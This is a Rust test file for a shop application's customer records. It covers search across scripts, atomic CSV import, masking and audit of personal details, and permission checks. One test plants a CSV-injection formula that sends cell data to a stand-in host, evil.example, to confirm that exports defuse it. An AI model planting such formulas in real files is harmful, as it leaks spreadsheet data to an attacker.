//! Customers found by name in any script, and imported from CSV all or nothing, with phone and
//! GSTIN normalised, checked and kept encrypted.

mod common;

use common::Fixture;

#[test]
fn customers_are_found_by_any_word_of_their_name() {
    let fx = Fixture::new();
    let (t, owner) = fx.init();
    for (name, phone) in [
        ("Ravi Sharma", "9876543210"),
        ("Priya Sharma", "9876543211"),
        ("राधा कृष्णन", "9876543212"),
        ("முருகன் ஸ்டோர்ஸ்", "9876543213"),
    ] {
        t.add_customer(&owner, &common::customer(name, phone))
            .unwrap();
    }
    let names = |q: &str| -> Vec<String> {
        let mut v: Vec<String> = t
            .search_customers(&owner, q, 10)
            .unwrap()
            .into_iter()
            .map(|c| c.name)
            .collect();
        v.sort();
        v
    };
    assert_eq!(names("sharm"), ["Priya Sharma", "Ravi Sharma"]);
    assert_eq!(names("ra sh"), ["Ravi Sharma"]);
    assert_eq!(names("कृष्"), ["राधा कृष्णन"]);
    assert_eq!(names("முருக"), ["முருகன் ஸ்டோர்ஸ்"]);
    assert!(names("\"").is_empty());
}

#[test]
fn a_customer_csv_imports_all_rows_or_none() {
    let fx = Fixture::new();
    let (t, owner) = fx.init();
    t.add_customer(&owner, &common::customer("On file", "9876543210"))
        .unwrap();
    let before = t.status().unwrap().audit_records;
    let bad = "name,phone,gstin,email,address,state_code,marketing_consent\n\
               Asha,98765 43211,,asha@example.in,,27,yes\n\
               ,9876543212,,,,,\n\
               Bala,12345,,,,,\n\
               Chitra,,27AAPFU0939F1ZX,,,,\n\
               Dev,+91 98765-43211,,,,,\n\
               Esha,9876543210,,,,,\n\
               Farah,9876543299,,,,27,maybe\n";
    let r = t.import_customers_csv(&owner, bad.as_bytes()).unwrap();
    assert_eq!(r.imported, 0);
    let got: Vec<(u64, &str)> = r
        .errors
        .iter()
        .map(|e| (e.line, e.field.as_str()))
        .collect();
    assert_eq!(
        got,
        [
            (3, "name"),
            (4, "phone"),
            (5, "gstin"),
            (6, "phone"),
            (7, "phone"),
            (8, "marketing_consent")
        ]
    );
    assert_eq!(t.status().unwrap().audit_records, before);

    let mut good = String::from("name,phone,gstin,email,address,state_code,marketing_consent\n");
    for i in 0..700 {
        good.push_str(&format!("Customer {i},9{i:09},,,,29,no\n"));
    }
    good.push_str(
        "Lakshmi Stores,,29AAFCC9980M1ZR,accounts@lakshmi.in,\"12, MG Road, Bengaluru\",29,yes\n",
    );
    let r = t.import_customers_csv(&owner, good.as_bytes()).unwrap();
    assert!(
        r.errors.is_empty(),
        "{:?}",
        &r.errors[..r.errors.len().min(3)]
    );
    assert_eq!(r.imported, 701);
    assert_eq!(
        t.status().unwrap().audit_records - before,
        3,
        "records of at most 300 rows"
    );
    let found = t
        .find_customers_by_gstin(&owner, "29aafcc9980m1zr")
        .unwrap();
    assert_eq!(found.len(), 1);
    assert_eq!(
        t.reveal_customer(&owner, found[0].id)
            .unwrap()
            .address
            .as_deref(),
        Some("12, MG Road, Bengaluru")
    );
    assert_eq!(
        t.find_customers_by_phone(&owner, "90000 00042").unwrap()[0].name,
        "Customer 42"
    );
    assert!(t.verify_audit(&owner).unwrap().is_intact());
}

#[test]
fn an_export_opens_safely_in_a_spreadsheet_and_imports_back_unchanged() {
    let fx = Fixture::new();
    let (t, owner) = fx.init();
    // A name a spreadsheet would run as a formula (OWASP's CSV injection).
    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    for (name, phone, address) in [
        (hostile, "9876543210", "@SUM(1+1)"),
        ("'Quoted' Traders", "9876543211", "-12, MG Road"),
    ] {
        t.add_customer(
            &owner,
            &galla_client::NewCustomer {
                name: name.into(),
                phone: Some(phone.into()),
                address: Some(address.into()),
                ..Default::default()
            },
        )
        .unwrap();
    }
    let mut csv = Vec::new();
    t.export_customers_csv(&owner, &mut csv).unwrap();
    let mut rows = csv::Reader::from_reader(csv.as_slice());
    let cells: Vec<String> = rows
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a spreadsheet would run {cell:?}"
        );
    }
    assert!(cells.contains(&format!("'{hostile}")), "{cells:?}");
    assert!(cells.contains(&"'+919876543210".to_owned()), "{cells:?}");

    // Into another shop, the export gives back the same customers.
    let other = Fixture::new();
    let (u, owner_u) = other.init();
    let r = u.import_customers_csv(&owner_u, csv.as_slice()).unwrap();
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    assert_eq!(r.imported, 2);
    for (name, phone, address) in [
        (hostile, "9876543210", "@SUM(1+1)"),
        ("'Quoted' Traders", "9876543211", "-12, MG Road"),
    ] {
        let found = u.find_customers_by_phone(&owner_u, phone).unwrap();
        assert_eq!(found.len(), 1, "{phone}");
        let c = u.reveal_customer(&owner_u, found[0].id).unwrap();
        assert_eq!(
            (c.name.as_str(), c.address.as_deref()),
            (name, Some(address))
        );
    }
}

#[test]
fn a_clerks_lookup_is_an_exact_phone_first_then_name_words() {
    let fx = Fixture::new();
    let (t, owner) = fx.init();
    let meena = t
        .add_customer(&owner, &common::customer("Meena Iyer", "9811111111"))
        .unwrap();
    let ravi = t
        .add_customer(&owner, &common::customer("Ravi Meena", "9822222222"))
        .unwrap();
    let ids = |typed: &str| -> Vec<uuid::Uuid> {
        t.lookup_customers(&owner, typed, 10)
            .unwrap()
            .into_iter()
            .map(|c| c.id)
            .collect()
    };
    assert_eq!(ids("+91 98111 11111"), vec![meena]);
    assert_eq!(ids("09822222222"), vec![ravi]);
    let mut both = ids("meena");
    both.sort();
    let mut expected = vec![meena, ravi];
    expected.sort();
    assert_eq!(both, expected);
    assert!(
        ids("9833333333").is_empty(),
        "a phone nobody has finds nobody"
    );
    assert!(ids("   ").is_empty());
}

#[test]
fn a_customer_is_corrected_field_by_field_and_only_what_changed_is_written() {
    let fx = Fixture::new();
    let (t, owner) = fx.init();
    let id = t
        .add_customer(&owner, &common::customer("Ravi Sharma", "9876543210"))
        .unwrap();
    let stored = |column: &str| -> Option<Vec<u8>> {
        fx.raw()
            .query_row(
                &format!("SELECT {column} FROM customer WHERE id = ?"),
                [id.to_string()],
                |r| r.get(0),
            )
            .unwrap()
    };
    let phone_before = stored("phone_ct");
    let records_before = t.status().unwrap().audit_records;

    // A new name: found by it, not by the old one; the phone's ciphertext is untouched.
    let rename = galla_client::CustomerChanges {
        name: Some("  Ravi Kumar Sharma ".into()),
        ..Default::default()
    };
    t.update_customer(&owner, id, &rename).unwrap();
    assert_eq!(t.customer(&owner, id).unwrap().name, "Ravi Kumar Sharma");
    let found: Vec<String> = t
        .search_customers(&owner, "kuma", 10)
        .unwrap()
        .into_iter()
        .map(|c| c.name)
        .collect();
    assert_eq!(found, ["Ravi Kumar Sharma"]);
    assert_eq!(
        stored("phone_ct"),
        phone_before,
        "an unchanged field is not rewritten"
    );
    assert_eq!(t.status().unwrap().audit_records, records_before + 1);

    // The same again changes nothing and writes nothing.
    t.update_customer(&owner, id, &rename).unwrap();
    assert_eq!(t.status().unwrap().audit_records, records_before + 1);

    // A new phone, typed as people do: the new number finds the customer, the old one does not.
    t.update_customer(
        &owner,
        id,
        &galla_client::CustomerChanges {
            phone: Some("+91 98765-00000".into()),
            address: Some("12 MG Road, Pune".into()),
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(
        t.find_customers_by_phone(&owner, "9876500000")
            .unwrap()
            .len(),
        1
    );
    assert!(
        t.find_customers_by_phone(&owner, "9876543210")
            .unwrap()
            .is_empty()
    );
    let view = t.reveal_customer(&owner, id).unwrap();
    assert_eq!(view.phone.as_deref(), Some("+919876500000"));
    assert_eq!(view.address.as_deref(), Some("12 MG Road, Pune"));

    // Bad input is refused and changes nothing; an empty address clears it.
    let records = t.status().unwrap().audit_records;
    for bad in [
        galla_client::CustomerChanges {
            gstin: Some("27AAPFU0939F1ZX".into()),
            ..Default::default()
        },
        galla_client::CustomerChanges {
            name: Some("   ".into()),
            ..Default::default()
        },
        galla_client::CustomerChanges {
            phone: Some("12345".into()),
            ..Default::default()
        },
    ] {
        assert!(
            matches!(
                t.update_customer(&owner, id, &bad),
                Err(galla_client::Error::Invalid(_))
            ),
            "{bad:?}"
        );
    }
    assert_eq!(t.status().unwrap().audit_records, records);
    assert_eq!(t.reveal_customer(&owner, id).unwrap(), view);
    t.update_customer(
        &owner,
        id,
        &galla_client::CustomerChanges {
            address: Some(String::new()),
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(t.customer(&owner, id).unwrap().address, None);
    assert!(matches!(
        t.update_customer(&owner, uuid::Uuid::now_v7(), &rename),
        Err(galla_client::Error::NotFound(_))
    ));
    assert!(t.verify_audit(&owner).unwrap().is_intact());
}

#[test]
fn contact_details_are_masked_for_every_seat_and_each_look_in_full_is_on_the_record() {
    let fx = Fixture::new();
    let (t, owner) = fx.init();
    let id = t
        .add_customer(
            &owner,
            &galla_client::NewCustomer {
                name: "Ravi Kumar".into(),
                phone: Some("98765 43210".into()),
                gstin: Some("27AAPFU0939F1ZV".into()),
                email: Some("ravi@example.in".into()),
                address: Some("12 MG Road, Pune".into()),
                ..Default::default()
            },
        )
        .unwrap();

    // Every way of finding a customer shows them masked, to the owner too.
    let found = [
        t.customer(&owner, id).unwrap(),
        t.find_customers_by_phone(&owner, "9876543210").unwrap()[0].clone(),
        t.find_customers_by_gstin(&owner, "27aapfu0939f1zv")
            .unwrap()[0]
            .clone(),
        t.search_customers(&owner, "ravi", 5).unwrap()[0].clone(),
        t.lookup_customers(&owner, "98765 43210", 5).unwrap()[0].clone(),
    ];
    for v in &found {
        assert!(!v.pii_revealed);
        assert_eq!(v.phone, Some(format!("{}3210", "•".repeat(9))));
        assert_eq!(v.gstin, Some(format!("27{}V", "•".repeat(12))));
        assert_eq!(v.email.as_deref(), Some("r•••@example.in"));
        assert_eq!(v.address.as_deref(), Some("(hidden)"));
    }

    // Shown in full on purpose: one audited look, naming the seat and the customer, no details.
    let records = t.status().unwrap().audit_records;
    let shown = t.reveal_customer(&owner, id).unwrap();
    assert!(shown.pii_revealed);
    assert_eq!(
        (shown.phone.as_deref(), shown.address.as_deref()),
        (Some("+919876543210"), Some("12 MG Road, Pune"))
    );
    assert_eq!(t.status().unwrap().audit_records, records + 1);
    let raw = fx.raw();
    let (action, entity, record): (String, String, Vec<u8>) = raw
        .query_row(
            "SELECT action, entity_id, record FROM audit_log ORDER BY seq DESC LIMIT 1",
            [],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
        )
        .unwrap();
    assert_eq!(
        (action.as_str(), entity),
        ("customer.reveal", id.to_string())
    );
    for detail in ["9876543210", "MG Road", "ravi@example", "AAPFU0939F"] {
        assert!(!common::contains(&record, detail.as_bytes()), "{detail}");
    }
    let seat: String = raw
        .query_row(
            "SELECT seat_id FROM pii_access WHERE kind = 'reveal' AND customer_id = ?",
            [id.to_string()],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(seat, t.session_info(&owner).unwrap().seat_id.to_string());
    // The record of it cannot be rewritten, even with the key and a SQLite shell.
    assert!(raw.execute("DELETE FROM pii_access", []).is_err());

    // A clerk may find the customer but not see the details; trying leaves no record.
    let clerk = common::counter_staff(&t, &owner);
    let records = t.status().unwrap().audit_records;
    assert!(matches!(
        t.reveal_customer(&clerk, id),
        Err(galla_client::Error::PermissionDenied { .. })
    ));
    assert!(!t.customer(&clerk, id).unwrap().pii_revealed);
    assert!(matches!(
        t.reveal_customer(&owner, uuid::Uuid::now_v7()),
        Err(galla_client::Error::NotFound(_))
    ));
    assert_eq!(t.status().unwrap().audit_records, records);

    // The owner's export of every customer is one record, with how many.
    let mut csv = Vec::new();
    assert_eq!(t.export_customers_csv(&owner, &mut csv).unwrap(), 1);
    let action: String = raw
        .query_row(
            "SELECT action FROM audit_log ORDER BY seq DESC LIMIT 1",
            [],
            |r| r.get(0),
        )
        .unwrap();
    let count: i64 = raw
        .query_row(
            "SELECT customers FROM pii_access WHERE kind = 'export'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!((action.as_str(), count), ("customers.export", 1));
    assert!(t.verify_audit(&owner).unwrap().is_intact());
}
